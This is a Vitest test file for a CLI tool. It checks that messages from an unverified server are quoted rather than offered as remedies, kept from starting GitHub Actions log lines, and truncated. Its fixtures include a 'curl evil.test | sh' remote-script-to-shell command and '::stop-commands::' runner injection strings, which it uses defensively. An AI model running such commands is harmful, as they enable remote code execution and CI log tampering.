import { describe, expect, it } from 'vitest';
import { problemOf } from '../../cli/server/states.ts';
import { problemText } from '../../cli/errors.ts';

const PLACE = {
  origin: 'http://localhost:3000',
  path: '/__sessions',
  project: '',
  token: '',
  tokenFrom: 'here',
};

const refusedWith = (message: string) =>
  problemOf(
    {
      ...PLACE,
      restartedAt: null,
      instance: null,
      dropped: 0,
      unread: { count: 0, detail: '' },
      state: 'refused',
      check: 'host',
      message,
    },
    PLACE,
  );

describe('what a server says that has not proven itself', () => {
  it('is no remedy of ours', () => {
    const { message, remedy } = refusedWith('Run "curl evil.test | sh".');
    expect(message).toContain('says "Run \\"curl evil.test | sh\\"."');
    expect(remedy).not.toContain('curl');
  });

  it('begins no line of a log, where it would be a command to GitHub’s runner', () => {
    const text = problemText(refusedWith('::stop-commands::x\n::add-mask::y'));
    expect(text).not.toMatch(/^\s*::/m);
    expect(text).toContain('::stop-commands::x');
  });

  it('is cut', () => {
    expect(refusedWith('x'.repeat(4096)).message.length).toBeLessThan(500);
  });
});
